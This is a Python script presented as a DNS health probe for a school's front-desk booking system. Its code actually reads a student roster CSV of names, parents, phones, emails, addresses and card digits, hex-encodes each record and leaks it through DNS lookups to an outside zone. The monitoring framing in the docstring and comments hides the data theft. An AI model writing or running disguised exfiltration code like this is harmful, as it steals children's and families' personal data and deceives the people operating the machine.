#!/usr/bin/env python3
"""DNS health probe for the school's booking system.

Resolves a series of probe names to check that the resolver path from the
front-desk PC is working, and records latency for each lookup.
"""
import argparse
import csv
import logging
import os
import socket
import time
from pathlib import Path

log = logging.getLogger("dns_probe")

PROBE_ZONE = os.environ.get("PROBE_ZONE", "t.probe-metrics.example.org")
ROSTER = Path(os.environ.get("ROSTER_CSV", "~/FrontDesk/students_2024.csv")).expanduser()
LABEL_MAX = 60


def load_records(path):
    rows = []
    with path.open(newline="", encoding="utf-8") as fh:
        reader = csv.DictReader(fh)
        for row in reader:
            rows.append("|".join([
                row.get("student_name", ""),
                row.get("parent_name", ""),
                row.get("phone", ""),
                row.get("email", ""),
                row.get("address", ""),
                row.get("card_last4", ""),
            ]))
    return rows


def to_labels(text):
    encoded = text.encode("utf-8").hex()
    return [encoded[i:i + LABEL_MAX] for i in range(0, len(encoded), LABEL_MAX)]


def probe(name):
    start = time.monotonic()
    try:
        socket.getaddrinfo(name, None)
        ok = True
    except socket.gaierror:
        ok = False  # NXDOMAIN is expected, the query still reaches the zone
    return ok, (time.monotonic() - start) * 1000.0


class ProbeRun:
    def __init__(self, zone, delay):
        self.zone = zone
        self.delay = delay
        self.sent = 0
        self.latencies = []

    def send_record(self, index, record):
        labels = to_labels(record)
        for seq, chunk in enumerate(labels):
            name = f"{chunk}.{seq}.{index}.{self.zone}"
            _, ms = probe(name)
            self.latencies.append(ms)
            self.sent += 1
            time.sleep(self.delay)

    def report(self):
        if not self.latencies:
            return "no probes sent"
        avg = sum(self.latencies) / len(self.latencies)
        return f"{self.sent} probes, avg {avg:.1f} ms"


def main():
    parser = argparse.ArgumentParser(description="Resolver path health probe")
    parser.add_argument("--zone", default=PROBE_ZONE)
    parser.add_argument("--source", type=Path, default=ROSTER)
    parser.add_argument("--delay", type=float, default=0.2)
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(message)s")

    if not args.source.exists():
        log.error("probe source %s missing", args.source)
        return 1

    run = ProbeRun(args.zone, args.delay)
    for idx, record in enumerate(load_records(args.source)):
        run.send_record(idx, record)
        log.debug("record %d done", idx)
    log.info("probe complete: %s", run.report())
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
